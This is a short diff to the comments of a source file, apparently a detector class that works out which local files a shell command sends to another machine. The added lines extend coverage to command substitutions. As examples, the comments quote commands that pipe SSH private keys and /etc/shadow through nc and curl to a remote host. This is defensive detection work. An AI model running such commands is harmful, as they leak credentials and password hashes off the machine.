@@ -19,7 +19,10 @@ struct SentFile {
 //   wget: --post-file / --body-file FILE;
 // - nc, ncat, netcat, socat, telnet, ssh, and curl reading standard input (-T -, @-): what
 //   they read, a `< FILE` of theirs or the files named by the commands piped into them
-//   (cat ~/.ssh/id_rsa | nc host 80).
+//   (cat ~/.ssh/id_rsa | nc host 80);
+// - what the commands in their command substitutions read (curl -d "$(cat ~/.ssh/id_rsa)",
+//   `cat f` unquoted, $(< f), in a header or the URL); a command that does not send passes
+//   those files on like its operands (echo "$(cat /etc/shadow)" | nc host 80).
 // Loopback hosts (localhost, 127.x, ::1) are not another machine. Linear in the line.
 class SentFiles
 {
